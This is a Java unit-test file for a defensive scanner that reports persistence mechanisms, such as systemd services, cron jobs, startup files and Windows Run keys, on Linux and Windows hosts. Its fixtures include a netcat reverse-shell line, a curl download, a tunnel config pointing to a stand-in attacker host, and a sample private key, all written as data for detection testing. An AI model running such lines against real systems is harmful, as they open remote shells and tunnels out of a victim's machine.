package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.Machine;
import bzh.vigie.agent.host.offline.MountedLinux;
import bzh.vigie.agent.persistence.catalogue.Catalogue;
import bzh.vigie.agent.persistence.catalogue.Location;
import bzh.vigie.agent.watchlist.Listed;
import bzh.vigie.event.Item;
import bzh.vigie.watchlist.LocalWatchlist;
import bzh.vigie.watchlist.LocalWatchlist.Kind;
import bzh.vigie.watchlist.LocalWatchlist.Value;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What is told of scripts, environments and files that commands name. Digests are those of sha256sum. */
final class ScriptsTest {
    private static final String TOKEN = "2aVbNcXzLk7JhGfDsApOi4UyTrEwQ";
    private static final String DIGEST = "secret=08fba5e7ac17";

    @TempDir
    Path root;

    @Test
    void aServiceTellsOfItsEnvironmentItsScriptAndItsConfiguration() throws IOException {
        String unit = "[Service]\nExecStart=%s\n";
        Trees.write(root, "/opt/s/run.sh", "#!/bin/sh\nexec nc 203.0.113.9 4444 -e /bin/sh\n");
        Trees.write(root, "/opt/a/a.toml", "server = \"frps.mallory.example\"\ntoken = \"" + TOKEN + "\"\n");
        Trees.write(root, "/opt/a/env", "TUNNEL_TOKEN=" + TOKEN + "\n");
        service("script", unit.formatted("/opt/s/run.sh"));
        service("shell", unit.formatted("/bin/bash -e /opt/s/run.sh"));
        service("option", unit.formatted("/opt/a/agent -c /opt/a/a.toml"));
        service("file", unit.formatted("/opt/a/agent") + "EnvironmentFile=-/opt/a/env\n");
        service("variable", unit.formatted("/opt/a/agent") + "Environment=\"TUNNEL_TOKEN=" + TOKEN + "\"\n");
        service("argument", unit.formatted("/opt/a/agent /opt/a/env"));
        assertEquals(List.of("address=203.0.113.9"), observables("script"));
        assertEquals(List.of("address=203.0.113.9"), observables("shell"));
        assertEquals(List.of("host=frps.mallory.example", DIGEST), observables("option"));
        assertEquals(List.of(DIGEST), observables("file"));
        assertEquals(List.of(DIGEST), observables("variable"));
        assertEquals(List.of(DIGEST), observables("argument"), "it is called as settings are");
    }

    /**
     * The key was made by {@code openssl genpkey -algorithm ed25519}, its fingerprint by {@code ssh-keygen -y -f k | ssh-keygen -lf -}. The other
     * file might be what a backup is told to leave out.
     */
    @Test
    void aPrivateKeyThatAUnitOrItsScriptNamesIsToldByItsFingerprint() throws IOException {
        String pem = """
                -----BEGIN PRIVATE KEY-----
                MC4CAQAwBQYDK2VwBCIEIM+9Dak3FlEN43YGIC1yTlaWjV2gHiImU3PCZCEbTWeX
                -----END PRIVATE KEY-----
                """;
        Trees.write(root, "/opt/k/id", pem);
        Trees.write(root, "/opt/k/other", "token " + TOKEN + "\n");
        Trees.write(root, "/opt/k/up.sh", "#!/bin/sh\nssh -i /opt/k/id -N a@b -E /opt/k/other\n");
        Trees.write(root, "/opt/k/made.sh", "#!/bin/sh\ncat > /run/k <<'E'\n" + pem + "E\nssh -i /run/k -N a@b\n");
        service("unit", "[Service]\nExecStart=/usr/bin/ssh -i /opt/k/id -N a@b\n");
        service("script", "[Service]\nExecStart=/opt/k/up.sh\n");
        service("inside", "[Service]\nExecStart=/opt/k/made.sh\n");
        for (String name : List.of("unit", "script", "inside")) {
            assertEquals(List.of("key=SHA256:Htccpu+Shbdz63ocwmzb7pbU7uCXCZQTEKOeVXh4W8w"), observables(name), name);
        }
        // where keys of the machine and its accounts lie (ssh(1), FILES): a job of the attacker may use the town hall's
        // own
        for (String own : List.of("/root/.ssh/id_backup", "/etc/ssh/ssh_host_ed25519_key")) {
            Trees.write(root, own, pem);
            Trees.write(root, "/opt/k/own.sh", "#!/bin/sh\nssh -i " + own + " -N a@b\n");
            service("own", "[Service]\nExecStart=/usr/bin/ssh -i " + own + " -N a@b\n");
            service("of-script", "[Service]\nExecStart=/opt/k/own.sh\n");
            for (String name : List.of("own", "of-script")) {
                assertTrue(observables(name).stream().noneMatch(each -> each.startsWith("key=")), name);
            }
        }
    }

    /** Endings of settings, and where agents of remote access and miners look by their manuals. */
    @Test
    void settingsAreReadWhereverTheirProgramFindsThem() throws IOException {
        String settings = "{\"pass\":\"" + TOKEN + "\"}\n";
        for (String path : List.of(
                "/srv/w/worker.yaml", "/opt/b/netd.msh", "/opt/b/list.json", "/opt/m/config.json", "/root/.s3cfg")) {
            Trees.write(root, path, settings);
        }
        for (String program :
                List.of("/opt/a/worker", "/opt/b/netd", "/opt/b/other", "/opt/m/updater", "/opt/s/s3cmd")) {
            program(program, "\0ELF " + program);
        }
        service("word", "[Service]\nExecStart=/opt/a/worker run /srv/w/worker.yaml\n");
        service("beside", "[Service]\nExecStart=/opt/b/netd\n");
        service("others", "[Service]\nExecStart=/opt/b/other\n");
        service("alone", "[Service]\nExecStart=/opt/m/updater --quiet\n");
        service("tool", "[Service]\nExecStart=/opt/s/s3cmd sync /srv s3://x\n");
        assertEquals(List.of(DIGEST), observables("word"));
        assertEquals(List.of(DIGEST), observables("beside"), "settings that have the program's name");
        assertEquals(List.of(), observables("others"), "in a folder with other programs they may be these programs'");
        assertEquals(List.of(DIGEST), observables("alone"));
        assertEquals(List.of(DIGEST), observables("tool"), "of the home of whoever runs it");
    }

    /** RFC 6749, 5.1: a client gets such tokens anew all the time, its account stays. */
    @Test
    void tokensThatPassAreNotWhatSettingsAre() throws IOException {
        String settings = """
                [b]
                type = onedrive
                user = leon.petit@mailbox.example
                token = {"access_token":"%s","refresh_token":"x","expiry":"2026-12-01T10:00:00Z"}
                """;
        Trees.write(root, "/root/.config/rclone/rclone.conf", settings.formatted(TOKEN));
        service("copy", "[Service]\nExecStart=/opt/r/rclone copy /srv b:x\n");
        assertEquals(List.of("mail=leon.petit@mailbox.example"), mails("copy"));
        String before = item("copy").fingerprint();
        Trees.write(root, "/root/.config/rclone/rclone.conf", settings.formatted("9" + TOKEN));
        assertEquals(before, item("copy").fingerprint());
    }

    /** Digests of sha256sum. */
    @Test
    void aStartFileTellsWhichProgramsItsLinesStart() throws IOException {
        program("/var/games/.score", "\0program one");
        program("/opt/k/second.sh", "#!/bin/sh\nexec curl http://203.0.113.77/a\n");
        Trees.write(root, "/var/notes.txt", "nc 203.0.113.78 1\n");
        String file = "file=255d976e338213c9d442e9af7fcdc3911bb534ed6c27cef159b15d29c1416eac";
        Trees.write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
        Trees.write(root, "/root/.profile", "[ -x /var/games/.score ] && (/var/games/.score &)\n");
        assertEquals(List.of("path=/var/games/.score", file), observables("linux.shell.user-profile", ".profile"));
        Trees.write(root, "/etc/rc.local", "#!/bin/sh\n/opt/k/second.sh < /var/notes.txt\n/var/games/.score\n");
        assertEquals(
                List.of("address=203.0.113.77", "path=/var/games/.score", file),
                observables("linux.rc-local", "rc.local"),
                "with what its scripts hold, and nothing of what these read");
    }

    @Test
    void librariesOfALoadersFolderAreKnownByTheirDigests() throws IOException {
        Trees.write(root, "/srv/.cache/lib/libmath.so.6.1", "\0program one");
        Trees.write(root, "/srv/.cache/lib/readme", "program two");
        Trees.write(root, "/etc/ld.so.conf.d/zz.conf", "/srv/.cache/lib\n");
        assertEquals(
                List.of("file=255d976e338213c9d442e9af7fcdc3911bb534ed6c27cef159b15d29c1416eac"),
                observables("linux.ld-so-conf", "/srv/.cache/lib"));
    }

    /** A job of a user leads neither out of a home nor through a link to what the superuser keeps. */
    @Test
    void nothingIsReadThroughALinkOfAUser() throws IOException {
        Trees.write(root, "/etc/passwd", "lea:x:4711:4711::/home/lea:/bin/sh\n");
        Trees.write(root, "/srv/private/keys.ini", "token=" + TOKEN + "\n");
        Files.setPosixFilePermissions(
                root.resolve("srv/private/keys.ini"), PosixFilePermissions.fromString("rw-------"));
        Trees.write(root, "/home/lea/bin/sync", "\0program");
        Trees.link(
                root,
                List.of(
                        "/home/lea/bin/sync.ini -> /srv/private/keys.ini",
                        "/home/lea/.s3cfg -> /srv/private/keys.ini"));
        Trees.write(
                root,
                "/var/spool/cron/crontabs/lea",
                "0 1 * * * /home/lea/bin/sync\n1 1 * * * s3cmd put /home/lea/x\n");
        assertEquals(2, items().size());
        items().forEach(item -> assertEquals(List.of(), item.observables(), item.value()));
    }

    private void program(String path, String content) throws IOException {
        Files.setPosixFilePermissions(Trees.write(root, path, content), PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    private List<String> mails(String service) {
        return observables(service).stream()
                .filter(each -> each.startsWith("mail="))
                .toList();
    }

    private Item item(String service) {
        return items().stream()
                .filter(item -> item.name().equals(service + ".service:ExecStart"))
                .findFirst()
                .orElseThrow();
    }

    private List<String> observables(String location, String name) {
        return Scanned.linux(root, location::equals).items().stream()
                .filter(item -> item.name().equals(name))
                .findFirst()
                .orElseThrow()
                .observables();
    }

    @Test
    void aDropInTellsNoValuesOfVariables() throws IOException {
        Trees.write(
                root,
                "/etc/systemd/system/tunnel.service.d/x.conf",
                "[Service]\nEnvironment=TUNNEL_TOKEN=" + TOKEN + " \"B=c d\"\n");
        Item item = items().getFirst();
        assertEquals("Environment=TUNNEL_TOKEN=… B=…", item.value());
        assertEquals(List.of(DIGEST), item.observables());
        assertFalse(item.toString().contains(TOKEN));
    }

    @Test
    void aPackagesOwnScriptIsNotLookedInto() throws Exception {
        String script = "#!/bin/sh\ncurl https://updates.vendor.example/x?k=" + TOKEN + "\n";
        Trees.write(root, "/usr/lib/town/run", script);
        Trees.write(root, "/var/lib/dpkg/status", "Package: town\nStatus: install ok installed\nVersion: 1\n\n");
        Trees.write(root, "/var/lib/dpkg/info/town.list", "/.\n/usr/lib/town/run\n");
        String md5 = HexFormat.of()
                .formatHex(MessageDigest.getInstance("MD5").digest(script.getBytes(StandardCharsets.UTF_8)));
        Trees.write(root, "/var/lib/dpkg/info/town.md5sums", md5 + "  usr/lib/town/run\n");
        service("town", "[Service]\nExecStart=/usr/lib/town/run\n");
        assertEquals(List.of(), observables("town"));
        Trees.write(root, "/usr/lib/town/run", script + "#\n");
        assertEquals(List.of("host=updates.vendor.example", DIGEST), observables("town"), "somebody changed it");
    }

    /** A job of a user must not make the agent, which runs as the superuser, tell of what that user may not read. */
    @Test
    void anItemOfAUserLeadsToNoFileThatTheUserMayNotRead() throws IOException {
        Trees.write(root, "/etc/passwd", "lea:x:4711:4711::/home/lea:/bin/sh\n");
        Trees.write(root, "/srv/secret.conf", "token=" + TOKEN + "\n");
        Trees.write(root, "/etc/shadow-", "token=" + TOKEN + "\n");
        Trees.write(
                root,
                "/var/spool/cron/crontabs/lea",
                "0 1 * * * /home/lea/x --config /srv/secret.conf --file=/etc/shadow-\n1 1 * * * sh /srv/secret.conf\n");
        Path secret = root.resolve("srv/secret.conf");
        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-r-----"));
        items().forEach(item -> assertEquals(List.of(), item.observables(), item.value()));
        Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("rw-r--r--"));
        assertEquals(2, items().size());
        items().forEach(item -> assertEquals(List.of(DIGEST), item.observables(), item.value()));
    }

    @Test
    void aCommandOfWindowsTellsOfTheFilesThatItsOptionsName() throws IOException {
        String conf = "server = \"frps.mallory.example\"\ntoken = \"" + TOKEN + "\"\n";
        for (String file : List.of("Users/Public/f.toml", "Users/agent/f.toml", "Srv/My Data/f.toml")) {
            Trees.write(root, "/" + file, conf);
        }
        StringBuilder reg = new StringBuilder("Windows Registry Editor Version 5.00\n");
        for (String hive : List.of("HKEY_LOCAL_MACHINE", "HKEY_CURRENT_USER")) {
            reg.append("[" + hive + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n");
            for (String option : List.of(
                    "--config C:\\Users\\Public\\f.toml",
                    "-c \"C:\\Srv\\My Data\\f.toml\"",
                    "/script:C:\\Users\\agent\\f.toml",
                    "C:\\Users\\Public\\f.toml")) {
                String value = ("C:\\t\\f.exe " + option).replace("\\", "\\\\").replace("\"", "\\\"");
                reg.append("\"" + option.replaceAll("\\W", "") + "\"=\"" + value + "\"\n");
            }
        }
        WindowsTree.make(root, reg.toString());
        List<String> told = WindowsTree.items(root).stream()
                .filter(item -> item.location().contains("run-key"))
                .filter(item -> !item.observables().isEmpty())
                .map(item -> item.location() + " " + item.name() + " " + item.observables())
                .sorted()
                .toList();
        String all = " [host=frps.mallory.example, " + DIGEST + "]";
        assertEquals(
                List.of(
                        "windows.run-key.machine CUsersPublicftoml" + all,
                        "windows.run-key.machine cCSrvMyDataftoml" + all,
                        "windows.run-key.machine configCUsersPublicftoml" + all,
                        "windows.run-key.machine scriptCUsersagentftoml" + all,
                        "windows.run-key.user CUsersPublicftoml" + all,
                        "windows.run-key.user configCUsersPublicftoml" + all,
                        "windows.run-key.user scriptCUsersagentftoml" + all),
                told,
                "a user's leads to the user's own files only");
    }

    private void service(String name, String text) throws IOException {
        Trees.write(root, "/etc/systemd/system/" + name + ".service", text);
    }

    private List<String> observables(String service) {
        return item(service).observables();
    }

    private List<Item> items() {
        return Scanned.linux(
                        root, location -> location.startsWith("linux.systemd.") || location.equals("linux.cron.user"))
                .items();
    }

    /** The word's digest is that of sha256sum; it is no part of what the item is. */
    @Test
    void aWordOfTheWatchlistIsToldOfAScriptAndChangesNothingElse() throws IOException {
        Trees.write(root, "/opt/a/run.sh", "#!/bin/sh\n. /opt/a/env\nexec upd7734x --quiet\n");
        service("script", "[Service]\nExecStart=/opt/a/run.sh\n");
        LocalWatchlist list = LocalWatchlist.of(List.of(new Value(Kind.WORD, "5e174c3ab213")), "2026-001");
        Item plain = items().getFirst();
        Item looked = items(list).getFirst();
        assertEquals(List.of(), plain.observables());
        assertEquals(List.of("word=5e174c3ab213"), looked.observables());
        assertEquals(plain.fingerprint(), looked.fingerprint());
        assertEquals(1, Listed.entries(list, looked).size());
        assertEquals(List.of(), Listed.entries(list, plain));
    }

    /** Sixth drill: what stood in /etc/bash.bashrc was told at each file that has it read, as Debian's own do. */
    @Test
    void aWordInAFileThatIsAPlaceByItselfIsToldThereAlone() throws IOException {
        for (String named : List.of("/etc/bash.bashrc", "/opt/a/env")) {
            Trees.write(root, named, "upd7734x --quiet\n");
            Trees.write(root, "/opt/a/run.sh", "#!/bin/sh\n. " + named + "\n");
            service("script", "[Service]\nExecStart=/opt/a/run.sh\n");
            LocalWatchlist list = LocalWatchlist.of(List.of(new Value(Kind.WORD, "5e174c3ab213")), "2026-001");
            assertEquals(
                    named.startsWith("/etc/") ? List.of() : List.of("word=5e174c3ab213"),
                    items(list).getFirst().observables(),
                    named);
        }
    }

    private List<Item> items(LocalWatchlist list) throws IOException {
        Location services = Catalogue.linux().stream()
                .filter(each -> each.id().equals("linux.systemd.service"))
                .findFirst()
                .orElseThrow();
        try (Machine machine = MountedLinux.open(root).ifFound().orElseThrow()) {
            return new SiteReader(machine, new FileHashes(machine.files()), new Numbers(), List::of, () -> list)
                    .read(new Site(services, Optional.empty()))
                    .items();
        }
    }
}
